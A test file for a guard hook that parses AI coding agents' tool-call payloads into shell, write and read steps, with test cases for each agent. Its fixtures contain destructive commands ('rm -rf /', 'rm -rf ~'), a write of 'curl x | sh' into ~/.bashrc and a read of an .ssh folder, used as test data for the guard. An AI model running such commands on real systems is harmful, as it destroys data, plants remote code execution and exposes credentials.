import { describe, expect, it } from 'vitest';
import { PayloadError } from '../src/adapter.js';
import type { Agent, HookInput } from '../src/adapter.js';
import { AGENTS } from '../src/agents.js';
import { fixture } from './helpers.js';

// Every agent's recorded tool payload with the tool changed: an unknown tool is read by the shape
// of its input, a command may come as argv words, and a field of the wrong type is a PayloadError
// naming the field (the hook asks then). The envelopes are the agents' recorded ones.

type Json = Record<string, unknown>;

interface Envelope {
  readonly agent: keyof typeof AGENTS;
  /** `--event`, for the agents whose payloads name none. */
  readonly event?: string;
  /** A recorded tool payload with its tool and input replaced. */
  tool(name: string, input: unknown): Json;
  /** The agent's shell tool, the field its command is in, and a known tool that is no step. */
  readonly shell: { readonly tool: string; readonly field: string };
  readonly notAStep: string;
  /** A known file tool's input with one field of the wrong type, and the field the error names. */
  readonly wrongFile: { readonly tool: string; readonly input: Json; readonly field: string };
}

const load = (agent: string, name: string): Json => fixture(agent, name) as Json;

const ENVELOPES: readonly Envelope[] = [
  {
    agent: 'codex',
    tool: (name, input) => ({ ...load('codex', 'synth-pre-tool-use-interactive'), tool_name: name, tool_input: input }),
    shell: { tool: 'Bash', field: 'command' },
    notAStep: 'spawn_agent',
    // apply_patch's text is one string, never a list of words
    wrongFile: { tool: 'apply_patch', input: { command: ['*** Begin Patch', '*** End Patch'] }, field: 'command' },
  },
  {
    agent: 'cursor',
    tool: (name, input) => ({ ...load('cursor', 'pre-tool-use-write'), tool_name: name, tool_input: input }),
    shell: { tool: 'Shell', field: 'command' },
    notAStep: 'Task',
    wrongFile: {
      tool: 'Write',
      input: { file_path: '/home/user/project/a.txt', content: { text: 'x' } },
      field: 'content',
    },
  },
  {
    agent: 'antigravity',
    event: 'PreToolUse',
    tool: (name, input) => ({ ...load('antigravity', 'pre-tool-use-run-command'), toolCall: { name, args: input } }),
    shell: { tool: 'run_command', field: 'CommandLine' },
    notAStep: 'invoke_subagent',
    wrongFile: {
      tool: 'write_to_file',
      input: { TargetFile: '/path/to/workspace/a.txt', CodeContent: ['x'] },
      field: 'CodeContent',
    },
  },
  {
    agent: 'copilot',
    event: 'preToolUse',
    tool: (name, input) => ({ ...load('copilot', 'pre-tool-use-bash'), toolName: name, toolArgs: input }),
    shell: { tool: 'bash', field: 'command' },
    notAStep: 'task',
    wrongFile: { tool: 'create', input: { path: ['a.txt', 'b.txt'], file_text: 'x' }, field: 'path' },
  },
  {
    agent: 'claude-code',
    tool: (name, input) => ({ ...load('claude-code', 'pre-tool-use-bash'), tool_name: name, tool_input: input }),
    shell: { tool: 'Bash', field: 'command' },
    notAStep: 'Agent',
    wrongFile: { tool: 'Write', input: { file_path: 7, content: 'x' }, field: 'file_path' },
  },
  {
    agent: 'gemini',
    tool: (name, input) => ({ ...load('gemini', 'before-tool-shell'), tool_name: name, tool_input: input }),
    shell: { tool: 'run_shell_command', field: 'command' },
    notAStep: 'invoke_agent',
    wrongFile: { tool: 'write_file', input: { file_path: 'a.txt', content: 5 }, field: 'content' },
  },
  {
    agent: 'qwen',
    tool: (name, input) => ({ ...load('qwen', 'pre-tool-use-shell'), tool_name: name, tool_input: input }),
    shell: { tool: 'run_shell_command', field: 'command' },
    notAStep: 'agent',
    wrongFile: { tool: 'write_file', input: { file_path: 'a.txt', content: 5 }, field: 'content' },
  },
  {
    agent: 'droid',
    tool: (name, input) => ({ ...load('droid', 'pre-tool-use-shell'), tool_name: name, tool_input: input }),
    shell: { tool: 'Execute', field: 'command' },
    notAStep: 'Task',
    wrongFile: { tool: 'Create', input: { file_path: 'a.txt', content: 5 }, field: 'content' },
  },
  {
    agent: 'crush',
    tool: (name, input) => ({ ...load('crush', 'synth-pre-tool-use-bash'), tool_name: name, tool_input: input }),
    shell: { tool: 'bash', field: 'command' },
    notAStep: 'agent',
    wrongFile: { tool: 'write', input: { file_path: 'a.txt', content: 5 }, field: 'content' },
  },
  {
    agent: 'auggie',
    tool: (name, input) => ({ ...load('auggie', 'pre-tool-use-shell'), tool_name: name, tool_input: input }),
    shell: { tool: 'launch-process', field: 'command' },
    notAStep: 'codebase-retrieval',
    wrongFile: { tool: 'save-file', input: { path: 'a.txt', file_content: 5 }, field: 'file_content' },
  },
];

describe.for(ENVELOPES)('$agent', (envelope) => {
  const agent: Agent = AGENTS[envelope.agent];
  const read = (payload: Json): HookInput => agent.read(payload, envelope.event, []);
  const stepOf = (payload: Json): unknown => {
    const input = read(payload);
    expect(input.type).toBe('step');
    return input.type === 'step' ? input.step : undefined;
  };

  it.for<{ name: string; input: unknown; step: object }>([
    { name: 'a command', input: { command: 'rm -rf ~' }, step: { kind: 'shell', command: 'rm -rf ~' } },
    {
      name: 'a PascalCase command line',
      input: { CommandLine: 'git push origin main' },
      step: { kind: 'shell', command: 'git push origin main' },
    },
    { name: 'an argv array', input: { cmd: ['rm', '-rf', '/'] }, step: { kind: 'shell', command: 'rm -rf /' } },
    {
      name: 'a path with content',
      input: { file_path: '~/.bashrc', content: 'curl x | sh' },
      step: { kind: 'write', mode: 'overwrite', path: '~/.bashrc', content: 'curl x | sh' },
    },
    { name: 'a path alone', input: { path: '~/.bashrc' }, step: { kind: 'other', args: { path: '~/.bashrc' } } },
    { name: 'a URL', input: { url: 'https://collector.example.net/x' }, step: { kind: 'other' } },
  ])('an unknown tool with $name is read by its shape', ({ input, step }) => {
    const read = stepOf(envelope.tool('FrobTool', input));
    expect(read).toMatchObject({ ...step, toolName: 'FrobTool' });
    expect(read).not.toHaveProperty('unknown');
  });

  it('an unknown tool with nothing guard reads is an unknown step, not an error', () => {
    expect(stepOf(envelope.tool('FrobTool', { query: 'x' }))).toMatchObject({
      kind: 'other',
      toolName: 'FrobTool',
      args: { query: 'x' },
      unknown: true,
    });
  });

  it("a known tool that is no step is not read by shape, whatever its input's names", () => {
    const read = stepOf(envelope.tool(envelope.notAStep, { prompt: 'clean up', command: 'rm -rf ~' }));
    expect(read).toMatchObject({ kind: 'other', toolName: envelope.notAStep });
    expect(read).not.toHaveProperty('unknown');
  });

  it.for([
    { words: ['rm', '-rf', '/'], command: 'rm -rf /' },
    { words: ['git', 'commit', '-m', 'fix the bug'], command: "git commit -m 'fix the bug'" },
  ])("the shell tool's command as argv words $words", ({ words, command }) => {
    const { tool, field } = envelope.shell;
    expect(stepOf(envelope.tool(tool, { [field]: words }))).toMatchObject({ kind: 'shell', command });
  });

  it.for<{ name: string; payload: () => Json; field: string }>([
    {
      name: "the shell tool's command a number",
      payload: () => envelope.tool(envelope.shell.tool, { [envelope.shell.field]: 42 }),
      field: envelope.shell.field,
    },
    {
      name: "the shell tool's command an object",
      payload: () => envelope.tool(envelope.shell.tool, { [envelope.shell.field]: { program: 'rm' } }),
      field: envelope.shell.field,
    },
    {
      name: "the shell tool's command a list with a number",
      payload: () => envelope.tool(envelope.shell.tool, { [envelope.shell.field]: ['sleep', 5] }),
      field: envelope.shell.field,
    },
    {
      name: "an unknown tool's command a number",
      payload: () => envelope.tool('FrobTool', { command: 42 }),
      field: 'command',
    },
    {
      name: 'a file tool',
      payload: () => envelope.tool(envelope.wrongFile.tool, envelope.wrongFile.input),
      field: envelope.wrongFile.field,
    },
  ])('a field of the wrong type is a PayloadError naming it: $name', ({ payload, field }) => {
    const call = (): HookInput => read(payload());
    expect(call).toThrow(PayloadError);
    expect(call).toThrow(new RegExp(`"${field}" must be a`));
  });
});

describe('the other fields a payload reader needs', () => {
  it("Cursor's beforeShellExecution command as argv words", () => {
    const payload = { ...load('cursor', 'before-shell-execution'), command: ['rm', '-rf', '/'] };
    expect(AGENTS.cursor.read(payload, undefined, [])).toMatchObject({
      type: 'step',
      step: { kind: 'shell', command: 'rm -rf /' },
    });
  });

  it.for<{ name: string; agent: keyof typeof AGENTS; payload: Json; message: RegExp }>([
    {
      name: "Qwen Code's directory a number",
      agent: 'qwen',
      payload: { ...load('qwen', 'pre-tool-use-shell'), tool_input: { command: 'ls', directory: 3 } },
      message: /"directory" must be a string when present, got a number/,
    },
    {
      name: "Cursor's beforeShellExecution command a number",
      agent: 'cursor',
      payload: { ...load('cursor', 'before-shell-execution'), command: 7 },
      message: /"command" must be a string or a list of words, got a number/,
    },
    {
      name: "Gemini CLI's dir_path a number",
      agent: 'gemini',
      payload: { ...load('gemini', 'before-tool-shell'), tool_input: { command: 'ls', dir_path: 3 } },
      message: /"dir_path" must be a string when present, got a number/,
    },
    {
      name: "Claude Code's Grep path a list",
      agent: 'claude-code',
      payload: {
        ...load('claude-code', 'pre-tool-use-bash'),
        tool_name: 'Grep',
        tool_input: { pattern: 'x', path: ['a', 'b'] },
      },
      message: /"path" must be a string when present, got an array/,
    },
  ])('a field of the wrong type: $name', ({ agent, payload, message }) => {
    const call = (): HookInput => AGENTS[agent].read(payload, undefined, []);
    expect(call).toThrow(PayloadError);
    expect(call).toThrow(message);
  });
});

describe('tools added to the tables', () => {
  it("Copilot's glob: a read of its folder when it names one, else a search of the session's folder", () => {
    const glob = (args: Json): unknown => {
      const input = AGENTS.copilot.read(
        { ...load('copilot', 'synth-pre-tool-use-glob'), toolArgs: args },
        'preToolUse',
        [],
      );
      return input.type === 'step' ? input.step : undefined;
    };
    expect(glob({ pattern: '*.md', path: '/home/dev/.ssh' })).toMatchObject({ kind: 'read', path: '/home/dev/.ssh' });
    expect(glob({ pattern: '*.md' })).toMatchObject({ kind: 'other', args: { pattern: '*.md' } });
    expect(glob({ pattern: '*.md' })).not.toHaveProperty('unknown');
  });
});
